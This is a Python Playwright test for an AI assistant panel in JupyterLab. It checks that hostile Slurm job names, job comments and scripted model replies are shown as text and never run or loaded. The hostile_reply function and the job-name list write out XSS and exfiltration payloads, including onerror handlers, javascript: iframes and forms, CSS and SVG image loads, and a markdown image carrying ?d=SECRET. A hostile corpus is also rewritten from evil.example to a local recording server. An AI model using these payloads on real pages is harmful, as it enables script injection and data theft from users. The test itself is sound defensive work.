"""Hostile text in the side panel, in a real browser on the dev cluster: shown, never run, never loaded.

Another cluster user (a second Unix user when the test runs as root) names held jobs and sets comments with
markup by plain ``sbatch``; so does a script the person ran, for the Jobs tab. The scripted model reads the
other user's queue (a tool result carrying those names) and answers with the shared corpus's hostile
replies, every remote URL pointed at a recording HTTP server on 127.0.0.1. The person cancels one hostile job
from the Jobs tab and reads its card. Throughout, a ``window.__pwned`` canary that every payload would set
stays undefined, no element that loads or runs appears, the hostile text is there to read, and the page asks
no host but the Jupyter server for anything: the recording server gets no request, while a request the test
makes itself from the same page does reach it. Screenshots: ``test-artifacts/screenshots/hostile-*.png``.
"""

from __future__ import annotations

import getpass
import os
import secrets
import shutil
import subprocess
import time
from collections.abc import Iterator
from contextlib import contextmanager

from conftest import require
from hostile import AttackerHost, hostile
from jupyter_server_proc import JupyterServer
from llm_server import ScriptedLLM, call, say
from notebook_support import llm, project  # noqa: F401 (fixtures)
from panel_support import WAIT_MS, lab, open_the_panel, page, screenshot, screenshot_on_failure  # noqa: F401
from playwright.sync_api import Locator, Page, expect

from betty_jupyter.devcluster.configs import SECOND_ACCOUNT
from betty_jupyter.safe_text import visible

PROMPT = "What does the other group have in the queue?"
END = "That is the whole queue."
# Where a rendered payload could put something that runs or loads: none of it may exist in the panel.
LIVE = ("script, img, svg, math, iframe, frame, object, embed, video, audio, source, picture, link, style, meta, "
        "base, form")
PANEL_FINDINGS = """panel => {
  const live = Array.from(panel.querySelectorAll('.betty-Markdown, .betty-ToolRow, .betty-Preview, .betty-Jobs'))
    .flatMap(part => Array.from(part.querySelectorAll(arguments_live)).map(e => `<${e.tagName.toLowerCase()}>`));
  const handlers = Array.from(panel.querySelectorAll('*')).flatMap(e => Array.from(e.attributes)
    .filter(a => a.name.startsWith('on')).map(a => `${e.tagName.toLowerCase()} ${a.name}`));
  const links = Array.from(panel.querySelectorAll('a')).filter(a => a.getAttribute('href') !== null
    && (!/^(https?:\\/\\/|mailto:)/.test(a.getAttribute('href')) || a.rel !== 'noopener noreferrer'))
    .map(a => a.outerHTML.slice(0, 80));
  return [...live, ...handlers, ...links];
}""".replace("arguments_live", repr(LIVE))


@contextmanager
def other_cluster_user(cluster: dict[str, str]) -> Iterator[str | None]:
    """As root, a new Unix user (removed afterwards) whose jobs root submits with ``--uid``; otherwise None: the
    person's own account stands in for the other user (a non-root dev cluster runs its owner's jobs only).
    The dev cluster enforces associations, so the user gets one in accounting (removed afterwards too)."""
    if os.geteuid() != 0:
        yield None
        return
    require("useradd", "userdel")
    name = f"betty-other-{secrets.token_hex(3)}"
    sbin = "/usr/sbin:/sbin:/usr/bin:/bin"
    subprocess.run([shutil.which("useradd", path=sbin) or "useradd", "--no-create-home", "--user-group", name],
                   check=True, capture_output=True)
    slurm = {**os.environ, **cluster}
    try:
        subprocess.run(["sacctmgr", "-i", "add", "user", name, f"Account={SECOND_ACCOUNT}"], check=True,
                       capture_output=True, env=slurm, timeout=60)
        yield name
    finally:
        subprocess.run(["sacctmgr", "-i", "delete", "user", name], capture_output=True, env=slurm, timeout=60)
        subprocess.run([shutil.which("userdel", path=sbin) or "userdel", name], capture_output=True)


def held_job(cluster: dict[str, str], name: str, comment: str, user: str | None) -> str:
    """A job submitted with plain ``sbatch`` (held, so it waits in the queue and never runs); its id."""
    as_user = ["--uid", user, "--gid", user] if user else []
    made = subprocess.run(
        ["sbatch", "--parsable", "--hold", *as_user, "--chdir=/tmp", "--output=/dev/null", "--time=5",
         f"--job-name={name}", f"--comment={comment}", "--wrap", "sleep 60"],
        capture_output=True, text=True, timeout=60, env={**os.environ, **cluster}, stdin=subprocess.DEVNULL)
    assert made.returncode == 0, f"sbatch refused the job name {name!r}: {made.stderr}"
    return made.stdout.strip().split(";")[0]


def hostile_reply(attacker_host: AttackerHost) -> str:
    """The corpus's hostile replies, markdown and log lines, and more of our own, all loading from ``attacker_host``."""
    own = [
        f'<img src="{attacker_host.url}/raw.png" onerror="window.__pwned=1">',
        f'<video poster="{attacker_host.url}/poster.png"></video><object data="{attacker_host.url}/object"></object>',
        f'<link rel="prefetch" href="{attacker_host.url}/prefetch">',
        f'<div style="background-image:url({attacker_host.url}/css.png)">styled</div>',
        f"![ref][hostile-ref]\n\n[hostile-ref]: {attacker_host.url}/reference.png",
        f"[![badge]({attacker_host.url}/badge.png)]({attacker_host.url}/badge-link)",
        f'<svg><image href="{attacker_host.url}/svg-image.png"/></svg>',
        '<iframe src="javascript:parent.__pwned=1"></iframe>',
        '<form action="javascript:window.__pwned=1"><button>go</button></form>',
        f"$$\\href{{{attacker_host.url}/tex}}{{x}}$$",
    ]
    corpus = hostile("model_replies", "markdown", "html", "log_lines", "unicode", "fences")
    host = attacker_host.url.removeprefix("http:")
    payloads = [text.replace("https://evil.example", attacker_host.url).replace("//evil.example", host)
                for text in [*own, *corpus]]
    return "\n\n".join([*payloads, "```", END])  # a fence of the corpus may be open: END is read as text


def test_hostile_job_names_replies_and_tool_results_are_shown_never_run(
        lab: JupyterServer, llm: ScriptedLLM, dev_cluster: dict[str, str], page: Page,  # noqa: F811
        attacker_host: AttackerHost) -> None:
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    elsewhere: list[str] = []  # what the page asked of any host but the Jupyter server
    page.on("request", lambda request: None if request.url.startswith((lab.url, "data:", "blob:"))
            else elsewhere.append(request.url))
    names = [*hostile("job_names"), f'<img src="{attacker_host.url}/job.png" onerror="window.__pwned=1">',
             f"![x]({attacker_host.url}/job-md.png?d=SECRET)"]
    comments = hostile("comments")
    jobs: list[str] = []
    with other_cluster_user(dev_cluster) as other, screenshot_on_failure(page, "failure", "hostile"):
        try:
            theirs = {held_job(dev_cluster, name, comments[i % len(comments)], other): name
                      for i, name in enumerate(names)}
            jobs += theirs
            mine = {held_job(dev_cluster, name, comments[i % len(comments)], None): name
                    for i, name in enumerate(names)}
            jobs += mine
            user = other or getpass.getuser()
            llm.add(call("cluster_queue", {"user": user}), say(hostile_reply(attacker_host)))

            panel = open_the_panel(page, lab)
            read_the_queue_and_the_reply(page, panel, attacker_host, list(theirs.values()))
            read_the_jobs_tab_and_a_cancel_card(page, panel, mine)
            nothing_ran_or_loaded(page, panel, attacker_host, dialogs, elsewhere)
        finally:
            for job_id in jobs:
                subprocess.run(["scancel", job_id], env={**os.environ, **dev_cluster}, capture_output=True,
                               timeout=60)


def read_the_queue_and_the_reply(page: Page, panel: Locator, attacker_host: AttackerHost, names: list[str]) -> None:
    """Approve reading the queue; its result shows the other user's job names as text, and so does the reply."""
    panel.get_by_test_id("betty-prompt").fill(PROMPT)
    panel.get_by_test_id("betty-send").click()
    card = panel.locator('[data-testid="betty-approval-card"][data-tool="cluster_queue"]')
    card.get_by_test_id("betty-approve").click()
    row = panel.locator('[data-testid="betty-tool-row"]', has_text="cluster_queue")
    expect(row).to_have_attribute("data-state", "ok", timeout=WAIT_MS)
    table = row.get_by_test_id("betty-tool-table").text_content() or ""
    for name in names:
        assert visible(name) in table, f"{name!r} is not shown as text in the queue's result: {table[:2000]}"
    reply = panel.get_by_test_id("betty-message-assistant").last
    expect(reply).to_have_attribute("data-streaming", "false", timeout=WAIT_MS)
    expect(reply).to_contain_text(END, timeout=WAIT_MS)
    expect(panel.get_by_test_id("betty-working")).to_have_count(0, timeout=WAIT_MS)
    text = reply.text_content() or ""
    for shown in (f'<img src="{attacker_host.url}/raw.png" onerror="window.__pwned=1">', "<script>window.__pwned=1</script>",
                  "train\\u202egpj.exe", "\\x1b[31mred"):
        assert shown in text, f"{shown!r} is not shown as text in the reply"
    images = reply.get_by_test_id("betty-markdown-image")
    expect(images.filter(has_text=f"{attacker_host.url}/?d=SECRET").first).to_be_visible()
    expect(images.filter(has_text=f"{attacker_host.url}/reference.png")).to_have_count(1)
    screenshot(page, "chat", "hostile")


def read_the_jobs_tab_and_a_cancel_card(page: Page, panel: Locator, mine: dict[str, str]) -> None:
    """The Jobs tab shows each hostile name as text; cancelling one shows a card naming it, which is denied."""
    panel.get_by_test_id("betty-tab-jobs").click()
    for job_id, name in mine.items():
        row = panel.locator(f'[data-testid="betty-job-row"][data-job-id="{job_id}"]')
        expect(row.locator(".betty-JobRow-title")).to_have_text(visible(name), timeout=WAIT_MS)
    screenshot(page, "jobs", "hostile")

    job_id, name = next((job, name) for job, name in mine.items() if "onerror" in name)
    panel.locator(f'[data-testid="betty-job-row"][data-job-id="{job_id}"]').get_by_test_id("betty-job-cancel").click()
    card = panel.locator('[data-testid="betty-approval-card"][data-tool="cluster_cancel"]')
    expect(card).to_have_attribute("data-status", "pending", timeout=WAIT_MS)
    expect(card.get_by_test_id("betty-preview")).to_contain_text(f"scancel {job_id}")
    expect(card.locator(".betty-Preview-details")).to_contain_text(visible(name))
    card.get_by_test_id("betty-deny").click()
    expect(card.get_by_test_id("betty-approval-record")).to_have_attribute("data-decision", "denied",
                                                                           timeout=WAIT_MS)


def nothing_ran_or_loaded(page: Page, panel: Locator, attacker_host: AttackerHost, dialogs: list[str],
                          elsewhere: list[str]) -> None:
    """No canary, no dialog, no live element, no request to another host — which a request of ours does reach."""
    assert page.evaluate("() => window.__pwned") is None
    assert dialogs == []
    assert panel.evaluate(PANEL_FINDINGS) == []
    assert elsewhere == [], f"the page asked other hosts for {elsewhere}"
    page.evaluate(f"() => {{ new Image().src = '{attacker_host.url}/control'; }}")
    deadline = time.monotonic() + 60
    while "/control" not in attacker_host.paths:
        assert time.monotonic() < deadline, "the page never reached the recording server: the test proves nothing"
        time.sleep(0.1)
    assert attacker_host.paths == ["/control"], f"the page loaded {attacker_host.paths} from the recording server"
    assert elsewhere == [f"{attacker_host.url}/control"]
